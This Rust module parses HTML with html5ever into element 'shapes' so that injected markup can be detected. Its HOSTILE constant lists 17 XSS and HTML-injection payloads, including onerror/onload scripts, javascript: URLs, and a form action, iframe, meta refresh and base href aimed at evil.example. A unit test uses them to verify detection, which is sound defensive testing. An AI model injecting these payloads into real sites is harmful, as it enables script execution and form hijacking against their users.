//! HTML as a browser's parser understands it: which elements and attributes there are, whatever the texts say.

use std::{
    borrow::Cow,
    cell::{Ref, RefCell},
};

use html5ever::{
    Attribute, QualName, parse_document,
    tendril::{StrTendril, TendrilSink},
    tree_builder::{ElementFlags, NodeOrText, QuirksMode, TreeSink},
};

/// An element with its attributes, in the order of the document.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Element {
    /// Its name; `#comment` for a comment.
    pub name: String,
    /// Names and values.
    pub attributes: Vec<(String, String)>,
}

impl Element {
    /// The attribute's value.
    pub fn attribute(&self, name: &str) -> Option<&str> {
        let found = self.attributes.iter().find(|(have, _)| have == name);
        found.map(|(_, value)| value.as_str())
    }

    /// `a href rel`: the element without what its attributes say.
    pub fn shape(&self) -> String {
        let mut shape = self.name.clone();
        for (name, _) in &self.attributes {
            shape.push(' ');
            shape.push_str(name);
        }
        shape
    }
}

/// Every element that a browser would make of a page, comments included.
pub fn elements(html: &str) -> Vec<Element> {
    parse_document(Sink::default(), Default::default()).one(html)
}

/// The shapes of all elements: two pages with the same shapes differ in texts and values only.
pub fn shapes(html: &str) -> Vec<String> {
    elements(html).iter().map(Element::shape).collect()
}

/// Keeps names and attributes, and no tree.
#[derive(Default)]
struct Sink(RefCell<Vec<(Option<QualName>, Element)>>);

impl Sink {
    fn push(&self, name: Option<QualName>, element: Element) -> usize {
        let mut all = self.0.borrow_mut();
        all.push((name, element));
        all.len()
    }
}

fn pairs(attributes: Vec<Attribute>) -> Vec<(String, String)> {
    let pair = |a: Attribute| (a.name.local.to_string(), a.value.to_string());
    attributes.into_iter().map(pair).collect()
}

/// A handle is an element's place in the list, from 1; 0 is the document.
impl TreeSink for Sink {
    type Handle = usize;
    type Output = Vec<Element>;
    type ElemName<'a> = Ref<'a, QualName>;

    fn finish(self) -> Vec<Element> {
        let all = self.0.into_inner().into_iter();
        all.map(|(_, element)| element).collect()
    }

    fn get_document(&self) -> usize {
        0
    }

    fn get_template_contents(&self, target: &usize) -> usize {
        *target
    }

    fn same_node(&self, x: &usize, y: &usize) -> bool {
        x == y
    }

    fn elem_name(&self, target: &usize) -> Ref<'_, QualName> {
        Ref::map(self.0.borrow(), |all| {
            all[target - 1].0.as_ref().expect("an element has a name")
        })
    }

    fn create_element(&self, name: QualName, attributes: Vec<Attribute>, _: ElementFlags) -> usize {
        let element = Element {
            name: name.local.to_string(),
            attributes: pairs(attributes),
        };
        self.push(Some(name), element)
    }

    fn create_comment(&self, text: StrTendril) -> usize {
        let element = Element {
            name: "#comment".to_owned(),
            attributes: vec![("text".to_owned(), text.to_string())],
        };
        self.push(None, element)
    }

    fn create_pi(&self, _: StrTendril, _: StrTendril) -> usize {
        let element = Element {
            name: "#instruction".to_owned(),
            attributes: Vec::new(),
        };
        self.push(None, element)
    }

    fn add_attrs_if_missing(&self, target: &usize, attributes: Vec<Attribute>) {
        let mut all = self.0.borrow_mut();
        all[target - 1].1.attributes.extend(pairs(attributes));
    }

    fn append(&self, _: &usize, _: NodeOrText<usize>) {}
    fn append_before_sibling(&self, _: &usize, _: NodeOrText<usize>) {}
    fn append_based_on_parent_node(&self, _: &usize, _: &usize, _: NodeOrText<usize>) {}
    fn append_doctype_to_document(&self, _: StrTendril, _: StrTendril, _: StrTendril) {}
    fn parse_error(&self, _: Cow<'static, str>) {}
    fn set_quirks_mode(&self, _: QuirksMode) {}
    fn remove_from_parent(&self, _: &usize) {}
    fn reparent_children(&self, _: &usize, _: &usize) {}
}

/// Texts that would add an element, an attribute, a line or a link if they were not escaped and cleaned.
pub const HOSTILE: [&str; 17] = [
    "<script>alert(1)</script>",
    "</title><svg onload=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "' autofocus onfocus='alert(1)",
    "</textarea><form action=https://evil.example>",
    "</style><style>@import 'https://evil.example'</style>",
    "\u{202e}evorppa\u{2028}\0",
    "javascript:alert(1)",
    "{{ base }}<!--",
    "--><iframe src=//evil.example>",
    "&lt;script&gt;&#60;b&#62;",
    "<a href=\"https://evil.example\">here</a>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<base href=https://evil.example>",
    "<math><mtext></p><style><img src=x onerror=alert(1)>",
    "<![CDATA[<b>]]><?php x ?>",
    "\u{fe64}script\u{fe65} \u{ff1c}b\u{ff1e} %3Cscript%3E",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_injected_element_or_attribute_is_seen() {
        let page = |text: &str| format!("<!DOCTYPE html><title>t</title><p class=\"x\">{text}</p>");
        let calm = shapes(&page("calm"));
        assert_eq!(calm, ["html", "head", "title", "body", "p class"]);
        assert_eq!(shapes(&page("&lt;b&gt;")), calm);
        for hostile in HOSTILE
            .iter()
            .filter(|h| h.contains('<') && !h.contains("&lt"))
        {
            assert_ne!(shapes(&page(hostile)), calm, "{hostile}");
        }
        let link = &elements("<a href=\"javascript:x\">")[3];
        assert_eq!(link.attribute("href"), Some("javascript:x"));
    }
}
